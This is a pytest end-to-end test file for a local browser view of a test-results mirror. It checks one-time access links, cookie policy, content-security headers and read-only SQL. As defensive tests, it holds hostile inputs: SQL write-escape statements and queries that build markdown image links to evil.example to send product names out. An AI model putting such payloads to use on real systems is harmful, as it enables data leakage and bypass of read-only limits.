"""The mirror in a web browser: who gets in, what is served, that nothing can be written."""

from __future__ import annotations

import json
import os
import re
import subprocess
import urllib.error
import urllib.request
from collections.abc import Callable
from http.cookiejar import CookieJar
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from service.browse.door import door_to
from service.browse.queries import QUERIES
from simulator import Simulator
from tests.homes import Home
from tests.tools import needs_tool, only_on_ci

PICTURE = Path(__file__).parents[2] / "docs" / "images" / "browse.png"
LARGEST_PICTURE = 200_000


class Visitor:
    """Somebody with a browser; keeps cookies, follows redirects."""

    def __init__(self, link: str) -> None:
        self.origin = f"http://{urlsplit(link).netloc}"
        self._opener = urllib.request.build_opener(
            urllib.request.ProxyHandler({}), urllib.request.HTTPCookieProcessor(CookieJar())
        )

    def get(self, url: str) -> tuple[int, str]:
        """The status and the body of a page."""
        try:
            with self._opener.open(url, timeout=20) as answer:
                return answer.status, answer.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, error.read().decode()

    def rows(self, name: str) -> list[dict[str, Any]]:
        """What a ready query answers."""
        status, text = self.get(f"{self.origin}/mirror/{name}.json?_shape=array")
        assert status == 200, f"{name}: {text}"
        return list(json.loads(text))

    def sql(self, query: str) -> tuple[int, Any]:
        """The answer to any SQL."""
        url = f"{self.origin}/mirror.json?_shape=objects&sql={quote(query)}"
        status, text = self.get(url)
        return status, json.loads(text)


def browse(home: Home) -> str:
    """Start it; the link that it prints."""
    process = home.start("browse", "--no-open")
    assert process.stdout is not None
    line = process.stdout.readline().strip()
    assert line.startswith("http://127.0.0.1:"), process.communicate()
    return line


def test_the_first_who_opens_the_link_reads_and_nobody_writes(home: Home) -> None:
    home.settings["TESTIO_REFRESH_INTERVAL_SECONDS"] = "0"
    home.simulator.add_fault(kind="status", status=403, path="*/features", times=1)
    home.daemon()
    home.wait_for_run(1)
    link = browse(home)
    operator, stranger = Visitor(link), Visitor(link)
    for path in ("/", "/mirror.json", "/-/dashboards/mirror", "/-/static/app.css", "/enter"):
        assert stranger.get(stranger.origin + path)[0] == 403, path
    assert stranger.get(f"{stranger.origin}/enter?ticket=guessed")[0] == 403
    status, page = operator.get(link)
    assert status == 200
    assert "The mirror at a glance" in page
    assert stranger.get(link)[0] == 403, "the link works once"
    assert operator.get(link)[0] == 200, "but whoever is in may open it again"

    answers = {name: operator.rows(name) for name in QUERIES}
    assert answers["failures_by_product"][0]["error"] == "forbidden"
    assert sum(row["tests"] for row in answers["tests_by_status"]) == home.sql_count("tests")
    assert answers["tests_under_way"][-1]["tests"] == 0, "all tests of the account have ended"
    assert [row["run"] for row in answers["run_durations"]] == [1]

    home.run("sync")
    assert [row["run"] for row in operator.rows("run_durations")] == [1, 2], "the daemon writes on"
    home.run("sync", "--product-ids", "99999999", expect=3)
    failed = {row["product"]: row["error"] for row in operator.rows("failures_by_product")}
    assert failed["99999999"] == "not_found", "a product that the account does not have"
    assert "of product 99999999\n" in home.run("runs", "show", "3").stdout
    for statement in ("DELETE FROM tests", "PRAGMA query_only = OFF", "ATTACH 'x' AS y"):
        assert operator.sql(statement)[0] == 400, statement
    assert operator.sql("SELECT count(*) AS n FROM tests")[1]["rows"] == [
        {"n": home.sql_count("tests")}
    ]
    process = home.started[1]
    process.terminate()
    assert home.finish(process).stdout == "", "refused queries are not printed"


@pytest.fixture
def scene(home: Home, make_simulator: Callable[..., Simulator]) -> Home:
    """A mirror with some history; long enough for a picture if one is to be taken."""
    if "PICTURE" not in os.environ:
        home.simulator.add_fault(kind="status", status=403, path="*/features", times=1)
        home.run("sync", expect=3)
        return home
    home.simulator = make_simulator(products=8, features=12, tests=150, latency_seconds=0.015)
    home.settings |= {"TESTIO_REFRESH_INTERVAL_SECONDS": "1", "LOG_LEVEL": "ERROR"}
    products = [product["id"] for product in home.simulator.account()["products"]]
    home.simulator.add_fault(
        kind="status", status=500, product_id=products[2], path="*/features", times=14
    )
    home.simulator.add_fault(kind="status", status=403, product_id=products[5], times=3)
    daemon = home.daemon()
    home.wait_for_run(5)
    home.simulator.add_fault(kind="slow", seconds=0.3, product_id=products[6], times=9)
    home.simulator.add_fault(kind="garbage", product_id=products[1], times=2)
    home.wait_for_run(11)
    home.simulator.add_fault(kind="status", status=500, product_id=products[4], path="*/features")
    home.wait_for_run(15)
    home.run("stop")
    home.finish(daemon)
    return home


@only_on_ci
@pytest.mark.timeout(120)
def test_the_charts_are_drawn_in_a_browser_without_a_network(scene: Home, tmp_path: Path) -> None:
    """`CI=1 PICTURE=1 pytest tests/e2e/test_browse.py` takes the picture of the README anew."""
    chromium = needs_tool("chromium")
    picture = tmp_path / "browse.png"
    command = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--hide-scrollbars"]
    command += [f"--user-data-dir={tmp_path / 'profile'}", "--window-size=1280,1250"]
    command += ["--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"]
    command += ["--virtual-time-budget=10000", "--dump-dom", f"--screenshot={picture}"]
    link = browse(scene)
    result = subprocess.run(
        [*command, link], capture_output=True, text=True, timeout=90, check=False
    )
    dom = result.stdout
    assert "The mirror at a glance" in dom, result.stderr
    drawn = re.findall(r'id="chart-(\w+)"[^>]*>\s*<svg', dom)
    assert len(drawn) == 6, f"drawn: {drawn}\n{result.stderr}\n{dom[-3000:]}"
    assert "archived" in dom
    loaded = re.findall(r'<(?:script|link|img)[^>]+(?:src|href)="([^"]+)"', dom)
    assert [url for url in loaded if url.startswith(("http", "//"))] == []
    assert picture.stat().st_size > 30_000
    if "PICTURE" in os.environ:
        assert picture.stat().st_size < LARGEST_PICTURE
        PICTURE.parent.mkdir(exist_ok=True)
        PICTURE.write_bytes(picture.read_bytes())


def test_the_browser_that_is_opened_knows_no_token(home: Home) -> None:
    home.run("sync")
    browser = home.folder / "browser.sh"
    browser.write_text("#!/bin/sh\n{ env; echo LINK $1; } > seen.new; mv seen.new seen.txt\n")
    browser.chmod(0o755)
    home.settings |= {"BROWSER": str(browser)}
    home.settings["TMPDIR"] = str(home.folder)
    process = home.start("browse")
    seen = home.folder / "seen.txt"
    home.wait_for(seen.exists, "the browser")
    text = seen.read_text()
    assert home.simulator.token not in text
    assert "ticket" not in text, "others can read a command line"

    page = Path(urlsplit(text.rpartition("LINK ")[2].strip()).path)
    assert page.stat().st_mode & 0o777 == 0o600
    assert page.parent.stat().st_mode & 0o777 == 0o700
    (link,) = set(re.findall(r"http://127[^\"]+", page.read_text()))
    visitor = Visitor(link)
    assert "The mirror at a glance" in visitor.get(link)[1]
    assert not page.parent.exists(), "it is of no use any more"
    process.terminate()
    home.finish(process)


def test_a_door_that_nobody_went_through_is_taken_away(home: Home) -> None:
    home.run("sync")
    home.settings |= {"BROWSER": "true", "TMPDIR": str(home.folder)}
    process = home.start("browse")
    home.wait_for(lambda: any(home.folder.glob("testio-sync-*/*")), "the page")
    process.terminate()
    home.finish(process)
    assert list(home.folder.glob("testio-sync-*")) == []


def test_whoever_comes_from_a_file_is_led_on_by_a_page_of_ours(home: Home) -> None:
    """Behind a redirect the browser would not send the cookie that it has just got."""
    home.run("sync")
    link = browse(home)
    request = urllib.request.Request(link, headers={"Sec-Fetch-Site": "cross-site"})
    with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request) as answer:
        assert answer.status == 200
        assert "SameSite=Strict" in answer.headers["Set-Cookie"]
        assert 'url=/-/dashboards/mirror"' in answer.read().decode()


@only_on_ci
@pytest.mark.timeout(120)
def test_a_real_browser_gets_in_by_the_file(home: Home, tmp_path: Path) -> None:
    chromium = needs_tool("chromium")
    home.run("sync")
    command = [chromium, "--headless", "--no-sandbox", "--disable-gpu"]
    command += ["--virtual-time-budget=10000", "--dump-dom"]
    link = browse(home)
    for attempt in range(3):  # on a busy machine a browser may end without having shown anything
        profile = f"--user-data-dir={tmp_path / f'profile-{attempt}'}"
        with door_to(link) as door:
            shown = subprocess.run(
                [*command, profile, door.url], capture_output=True, text=True, timeout=90
            )
        if shown.stdout:
            break
        link = browse(home)
    assert "The mirror at a glance" in shown.stdout, shown.stderr


def test_texts_of_strangers_are_no_links_and_no_html(home: Home) -> None:
    evil = "http://127.0.0.1:1/mirror?sql=select+1+as+x_markdown"
    product = home.simulator.account()["products"][0]["id"]
    home.simulator.mutate("change", "product", id=product, fields={"name": evil})
    home.run("sync")
    link = browse(home)
    visitor = Visitor(link)
    visitor.get(link)
    image = quote("select '![x](http://evil.example/' || name || ')' as x_markdown from products")
    long = quote("select 'https://evil.example/' || hex(zeroblob(9000)) as url_html")
    for path in (
        "mirror/products",
        f"mirror?sql={image}",
        f"mirror?sql={long}",
        "mirror/freshness",
    ):
        status, page = visitor.get(f"{visitor.origin}/{path}")
        assert status == 200
        assert "evil.example" in page or "127.0.0.1:1/" in page
        linked = re.findall(r'(?:href|src)="((?:https?:)?//[^"]*)"', page)
        hosts = {urlsplit(url).netloc for url in linked}
        assert hosts <= {urlsplit(link).netloc, "datasette.io"}, "links out of data"
        assert "<img" not in page


def test_every_answer_has_a_policy(home: Home) -> None:
    home.run("sync")
    link = browse(home)
    opener = urllib.request.build_opener(
        urllib.request.ProxyHandler({}), urllib.request.HTTPCookieProcessor(CookieJar())
    )
    origin = f"http://{urlsplit(link).netloc}"
    pages = ("/", "/mirror", "/mirror/tests", "/mirror.json", "/-/static/app.css", "/nothing")
    for url in (f"{origin}/mirror", link, *(origin + page for page in pages)):
        try:
            headers = opener.open(url, timeout=20).headers
        except urllib.error.HTTPError as error:
            headers = error.headers
        policy = headers["Content-Security-Policy"]
        for part in ("default-src 'self'", "form-action 'self'", "frame-ancestors 'none'"):
            assert part in policy, url
        assert "http:" not in policy
